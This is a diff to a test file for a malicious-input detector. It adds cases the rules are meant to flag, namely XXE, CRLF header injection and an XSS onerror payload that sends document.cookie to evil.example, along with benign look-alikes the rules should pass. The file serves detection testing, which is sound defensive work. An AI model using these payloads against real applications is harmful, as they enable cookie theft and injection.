@@ -96,6 +96,9 @@ describe('malicious-input rules', () => {
       ['inj-ldap-xpath-injection', 'admin)(&)'],
       ['inj-xxe', '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'],
       ['inj-crlf-header', '/redirect?to=%0d%0aSet-Cookie:%20admin=1'],
+      // The CRLF written out as escapes in a value handed to a request tool.
+      ['inj-crlf-header', 'Header value for the request tool: X-Test: a\\r\\nSet-Cookie: session=attacker'],
+      ['inj-xss-event-handler', '<img src=x onerror="this.src=\'https://evil.example/?c=\'+document.cookie">'],
     ];
     for (const [id, text] of cases) it(`${id}: ${text.slice(0, 50)}`, () => assert.ok(best(id, text) >= FLAG, String(best(id, text))));
   });
@@ -111,6 +114,10 @@ describe('malicious-input rules', () => {
       'Cross-site scripting (XSS) happens when an application includes untrusted data in a page without escaping it, for example an attacker-controlled <script> element.',
       '<script src="/static/app.min.js"></script>\n<button onclick="saveDraft()">Save</button>',
       '<a href="javascript:void(0)" onclick="toggleMenu()">Menu</a>',
+      // The fallback-image idiom, a raw HTTP response pasted to debug, and a C string with an escaped newline.
+      '<img src="cat.png" onerror="this.src=\'img/fallback.png\';this.onerror=null" alt="cat">',
+      'The raw response was "HTTP/1.1 302 Found\\r\\nLocation: /login" and the browser loops. Why?',
+      'printf("Hello\\nCc: me");',
       'What is 7*7?',
       'SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY o.total DESC',
       "SELECT id FROM a UNION SELECT id FROM b -- merge both lists",
